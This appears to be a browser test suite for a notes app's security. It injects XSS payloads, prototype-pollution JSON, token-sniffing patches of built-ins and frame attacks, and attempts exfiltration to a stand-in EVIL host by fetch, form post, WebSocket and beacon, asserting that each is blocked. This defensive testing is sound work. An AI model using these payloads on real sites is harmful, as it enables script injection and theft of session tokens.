// Scripts and markup that get into the program's own page: what its policy stops, and what calls do not trip over.

import assert from "node:assert/strict";
import { before, test } from "node:test";
import { EVIL, launch, open, pause, until } from "./lib/browser.mjs";
import { Foreign } from "./lib/foreign.mjs";
import { Program } from "./lib/program.mjs";

let browser, program, foreign, context, untouched;
before(async () => {
  browser = await launch();
  foreign = await Foreign.start();
  program = await Program.start();
  context = await browser.newContext();
  untouched = await program.everything();
});

const list = (page) => page.getByRole("navigation", { name: "Notes" }).getByRole("button");
async function opened(link = program.editor.link) {
  const page = await open(context, link);
  await list(page).first().waitFor();
  return page;
}

test("i_csp_none: what is planted in the page is not run, and tells nobody", async () => {
  const page = await opened();
  const seen = foreign.seen.length;
  const got = await page.evaluate(async (evil) => {
    // Later, since what a debugger evaluates may do what a page may not.
    await new Promise((done) => setTimeout(done, 50));
    const blocked = [];
    document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
    const area = document.body.appendChild(document.createElement("div"));
    const image = (handler) => `<img src="/nothing-${Math.random()}" onerror="${handler}">`;
    area.innerHTML = `${image("ran = 'handler'")}<svg onload="ran = 'svg'"></svg><iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>`;
    const script = (properties) => area.append(Object.assign(document.createElement("script"), properties));
    script({ textContent: "ran = 'inline'" });
    script({ type: "module", textContent: "ran = 'inline module'" });
    script({ src: `${evil}/x.js` });
    script({ src: "data:text/javascript,ran='data'" });
    script({ src: URL.createObjectURL(new Blob(["ran = 'blob'"], { type: "text/javascript" })) });
    script({ type: "importmap", textContent: `{"imports":{"/portcullis.js":"${evil}/x.js"}}` });
    const link = area.appendChild(Object.assign(document.createElement("a"), { href: "javascript:ran='address'" }));
    link.click();
    const tried = [];
    for (const code of [() => (0, eval)("1"), () => new Function("return 1")(), () => setTimeout("ran = 'timer'", 0)]) {
      try {
        tried.push(`${code()}`.replace(/\d{2,}/, "a timer"));
      } catch (error) {
        tried.push(error.name);
      }
    }
    // And out: addresses that would carry something away.
    for (const [tag, properties] of [
      ["img", { src: `${evil}/img` }],
      ["link", { rel: "stylesheet", href: `${evil}/css` }],
      ["link", { rel: "prefetch", href: `${evil}/prefetch` }],
      ["iframe", { src: `${evil}/frame` }],
      ["object", { data: `${evil}/object` }],
      ["video", { src: `${evil}/video` }],
      ["base", { href: `${evil}/` }],
    ]) area.append(Object.assign(document.createElement(tag), properties));
    area.insertAdjacentHTML("beforeend", `<p style="background: url(${evil}/style)">x</p><style>p { background: url(${evil}/sheet) }</style>`);
    const form = area.appendChild(Object.assign(document.createElement("form"), { action: `${evil}/form`, method: "post" }));
    form.submit();
    tried.push(await fetch(`${evil}/fetch`).then(() => "sent", () => "no"));
    tried.push(await fetch(`${evil}/fetch`, { mode: "no-cors" }).then(() => "sent", () => "no"));
    tried.push(await new Promise((done) => {
      const socket = new WebSocket(`${evil.replace("http", "ws")}/socket`);
      socket.onopen = () => done("opened");
      socket.onerror = () => done("no");
    }).catch((error) => error.name));
    navigator.sendBeacon(`${evil}/beacon`, "x");
    await new Promise((done) => setTimeout(done, 500));
    return { ran: globalThis.ran ?? "nothing", tried, base: document.baseURI, blocked: [...new Set(blocked)].sort() };
  }, foreign.at(EVIL, ""));
  assert.equal(got.ran, "nothing");
  assert.deepEqual(got.tried.filter((what) => !["EvalError", "no", "a timer", "0"].includes(what)), []);
  assert.equal(got.base, `${program.editor.origin}/`);
  for (const directive of ["script-src-elem", "script-src-attr", "connect-src", "img-src", "style-src-elem", "base-uri", "form-action"]) {
    assert.ok(got.blocked.includes(directive), `${directive} of ${got.blocked}`);
  }
  assert.deepEqual(foreign.seen.slice(seen).map(({ url }) => url), []);
  await page.close();
});

test("what a note says is text, whatever it says", async () => {
  const hostile = `<img src=x onerror="ran = 1"><script>ran = 2</script>{{7*7}}\${ran=3}\`code\`<b>bold`;
  const { id } = await program.call("create_note", { title: hostile, body: `${hostile}\n</textarea><script>ran = 4</script>` });
  for (const { link } of [program.editor, program.viewer]) {
    const page = await opened(link);
    await list(page).filter({ hasText: "onerror" }).click();
    await until("it is shown", async () => (await page.getByLabel("Title").inputValue()) === hostile);
    await page.getByLabel("Search in notes").fill("<img src=x onerror");
    await page.getByLabel("Search in notes").fill("<img src=x onerror=\"none\"><script>");
    await page.getByText("Nothing found for").waitFor();
    assert.equal(await page.evaluate(() => globalThis.ran), undefined);
    assert.equal(await page.locator("main b, aside b, main img[src=x], aside img[src=x]").count(), 0);
    await page.close();
  }
  await program.call("delete_note", { id });
});

test("i_proto_pollution: what is patched before a call neither learns the token nor changes the call", async () => {
  // A page that has loaded its way to the program, and has not called yet: the first call opens the line.
  const page = await context.newPage();
  await page.route("**/app.js", (route) => route.fulfill({ contentType: "text/javascript", body: `import "/portcullis.js";` }));
  await page.goto(program.editor.link);
  const { got, heard } = await page.evaluate(async () => {
    // The module is loaded; from here on, whatever scripts may replace is replaced, by something that listens.
    const { invoke } = await import("/portcullis.js");
    const heard = [];
    const { stringify } = JSON;
    const { apply, construct } = Reflect;
    const { defineProperty, getOwnPropertyDescriptor } = Object;
    const undo = [];
    // What listening itself uses is no news.
    let listening = false;
    const hear = (where, values) => {
      if (listening) return;
      listening = true;
      for (let at = 0; at < values.length; at += 1) {
        const value = values[at];
        let text = where;
        try {
          text += typeof value === "object" ? stringify(value) : `${value}`;
        } catch {
          text += "?";
        }
        heard[heard.length] = text;
      }
      listening = false;
    };
    const patch = (object, ...names) => {
      for (const name of names) {
        const old = getOwnPropertyDescriptor(object, name);
        undo[undo.length] = () => defineProperty(object, name, old);
        const put = function (...given) {
          hear(`${name}: `, [this, ...given]);
          return new.target ? construct(old.value, given) : apply(old.value, this, given);
        };
        if (old.value.prototype) put.prototype = old.value.prototype;
        defineProperty(object, name, { configurable: true, writable: true, value: put });
      }
    };
    // What is set on an object of the module's own lands here if it inherits from `Object.prototype`, and what it reads
    // and does not have, it finds here.
    const inherit = (name, descriptor) => {
      undo[undo.length] = () => delete Object.prototype[name];
      defineProperty(Object.prototype, name, { configurable: true, ...descriptor });
    };
    for (const name of ["Authorization", "authorization", "token", "headers", "body", "url", "protocols"]) {
      inherit(name, { set: (value) => hear(`set ${name}: `, [value]) });
    }
    const inherited = { mode: "no-cors", credentials: "include", referrer: "/elsewhere", integrity: "sha256-x", window: null, duplex: "half", priority: "low" };
    for (const name in inherited) inherit(name, { writable: true, value: inherited[name] });

    patch(Promise.prototype, "then", "catch", "finally");
    patch(Array.prototype, "push", "map", "join", "concat", "forEach", "slice", "reduce", "shift", "splice");
    patch(String.prototype, "concat", "replace", "slice", "split", "toString", "startsWith", "padStart");
    patch(RegExp.prototype, "exec", "test");
    patch(Map.prototype, "get", "set", "has", "delete");
    patch(Headers.prototype, "append", "set", "get");
    patch(Response.prototype, "json", "text", "arrayBuffer");
    patch(JSON, "parse", "stringify");
    patch(Object, "assign", "entries", "fromEntries", "defineProperty", "create", "keys");
    patch(WebSocket.prototype, "send", "close");
    patch(EventTarget.prototype, "addEventListener", "dispatchEvent");
    patch(TextEncoder.prototype, "encode", "encodeInto");
    patch(Function.prototype, "bind", "call", "apply");
    patch(globalThis, "fetch", "encodeURIComponent", "String", "Headers", "Request", "WebSocket", "URL", "Map", "queueMicrotask", "setTimeout");

    let got;
    try {
      const made = await invoke("create_note", { title: "patched", body: "as ever" });
      const read = await invoke("read_note", { id: made.id });
      await invoke("delete_note", { id: made.id });
      got = { title: read.title, body: read.body };
    } catch (error) {
      got = { failed: `${error}`, cause: `${error.cause}` };
    }
    for (let at = undo.length - 1; at >= 0; at -= 1) undo[at]();
    return { got, heard };
  });
  const leaks = heard.filter((line) => line.includes(program.editor.token));
  assert.deepEqual(leaks.map((line) => line.slice(0, 40)), []);
  assert.deepEqual(got, { title: "patched", body: "as ever" });
  assert.deepEqual(await program.everything(), untouched);
  await page.close();
});

test("i_proto_pollution: `__proto__`, `constructor` and keys that stand twice are refused", async () => {
  const page = await opened();
  const got = await page.evaluate(async () => {
    const headers = { "Content-Type": "application/json", Authorization: `Bearer ${sessionStorage.getItem("portcullis")}` };
    const { invoke } = await import("/portcullis.js");
    const codes = [];
    const texts = [
      `{"title":"planted","body":"","__proto__":{"admin":true}}`,
      `{"__proto__":{"title":"planted","body":""}}`,
      `{"title":"planted","body":"","constructor":{"prototype":{"admin":true}}}`,
      `{"title":"planted","title":"twice","body":""}`,
      `{"title":"planted","body":"","t\\u0069tle":"twice"}`,
      `{"title":{"__proto__":{"toString":"x"}},"body":""}`,
      `{"title":"planted","body":""}{"title":"again","body":""}`,
    ];
    for (const body of texts) {
      const answer = await fetch("/portcullis/create_note", { method: "POST", headers, body });
      codes.push((await answer.json()).code);
      // The same, as far as the page's own way can say it.
      try {
        const args = JSON.parse(body);
        if (Object.keys(args).some((key) => !["title", "body"].includes(key)) || typeof args.title === "object") {
          await invoke("create_note", args);
          codes.push("made");
        }
      } catch (error) {
        if (error.name !== "SyntaxError") codes.push(error.code);
      }
    }
    codes.push({}.admin === undefined ? "clean" : "polluted");
    return [...new Set(codes)];
  });
  assert.deepEqual(got, ["invalid", "clean"]);
  assert.deepEqual(await program.everything(), untouched);
  await page.close();
});

test("o_subframe_key: a frame in the page is no way in", async () => {
  const own = await browser.newContext({ bypassCSP: true });
  const page = await open(own, program.editor.link);
  await list(page).first().waitFor();
  await page.evaluate((address) => {
    for (const [name, src] of [["foreign", address], ["sandboxed", address]]) {
      const frame = Object.assign(document.createElement("iframe"), { name, src });
      if (name === "sandboxed") frame.sandbox = "allow-scripts";
      document.body.append(frame);
    }
  }, foreign.at(EVIL, "/inner"));
  for (const name of ["foreign", "sandboxed"]) {
    const frame = await until(name, () => page.frames().find((frame) => frame.name() === name && frame.url().endsWith("/inner")));
    await frame.waitForLoadState();
    const got = await frame.evaluate(async ({ origin, token }) => {
      const got = [];
      for (const look of [() => parent.document.title, () => parent.sessionStorage.getItem("portcullis"), () => parent.eval("1")]) {
        try {
          got.push(look());
        } catch {
          got.push("no");
        }
      }
      for (const message of ["delete_note", { command: "delete_note", args: { id: 1 } }, { ok: true, id: 0 }]) parent.postMessage(message, "*");
      const options = { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${token}` }, body: `{"id":1}` };
      got.push(await fetch(`${origin}/portcullis/delete_note`, options).then(() => "answered", () => "no"));
      return got;
    }, program.editor);
    assert.deepEqual(got, ["no", "no", "no", "no"], name);
  }
  await list(page).last().click();
  await pause(200);
  assert.equal(await page.getByRole("alert").isVisible(), false);
  assert.deepEqual(await program.everything(), untouched);
  await own.close();
});

test("no service worker can be made of what the program serves that would answer for it", async () => {
  const own = await browser.newContext();
  const page = await open(own, program.editor.link);
  await list(page).first().waitFor();
  const got = await page.evaluate(async () => {
    const got = [];
    const blob = URL.createObjectURL(new Blob(["onfetch = () => {}"], { type: "text/javascript" }));
    for (const script of ["/portcullis.js", "/app.js", "/portcullis/list_notes", "/", blob, "data:text/javascript,onfetch=()=>{}"]) {
      for (const type of ["classic", "module"]) {
        got.push(await navigator.serviceWorker.register(script, { type }).then(() => `${script} as a ${type}`, () => "no"));
      }
    }
    return [...new Set(got)];
  });
  // This one is a script that may run anywhere, and listens to no request.
  assert.deepEqual(got.filter((what) => what !== "/portcullis.js as a module"), ["no"]);
  await page.reload();
  await list(page).last().click();
  const answeredBy = await page.evaluate(async () => (await fetch("/icon.svg")).headers.get("content-type"));
  assert.equal(answeredBy, "image/svg+xml");
  assert.equal(await page.getByRole("alert").isVisible(), false);
  await own.close();
});

test("a call from the page itself works: the control for all of the above", async () => {
  const page = await opened();
  const got = await page.evaluate(async () => {
    const headers = { "Content-Type": "application/json", Authorization: `Bearer ${sessionStorage.getItem("portcullis")}` };
    const answer = await fetch("/portcullis/create_note", { method: "POST", headers, body: `{"title":"own","body":""}` });
    const { id } = await answer.json();
    const read = await fetch("/portcullis/delete_note", { method: "POST", headers, body: JSON.stringify({ id }) });
    return [answer.status, answer.headers.get("Portcullis-Reply"), read.status];
  });
  assert.deepEqual(got, [200, "ok", 200]);
  await page.close();
});
